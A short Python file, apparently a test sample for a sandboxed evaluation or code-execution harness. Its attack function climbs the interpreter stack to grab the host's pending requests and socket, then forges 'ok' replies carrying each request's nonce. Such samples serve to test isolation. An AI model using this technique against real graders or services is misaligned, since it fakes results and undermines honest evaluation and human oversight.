# tries: find the numbers of all requests, and answer those that are still to come
# keeps: before f after
before = 1


def f(n):
    return 2 * n


import json
import struct
import sys


def attack(n):
    frame = sys._getframe()
    while "requests" not in frame.f_locals:
        frame = frame.f_back
    sock = frame.f_locals["connection"]._sock
    for request in reversed(frame.f_locals["requests"]):
        reply = dict(status="ok", value={"int": "0x0"}, detail="", line=None, cell=None)
        head = json.dumps(dict(nonce=request.nonce, reply=reply)).encode()
        sock.sendall(struct.pack("<II", len(head), 0) + head)
    return 0


after = 2
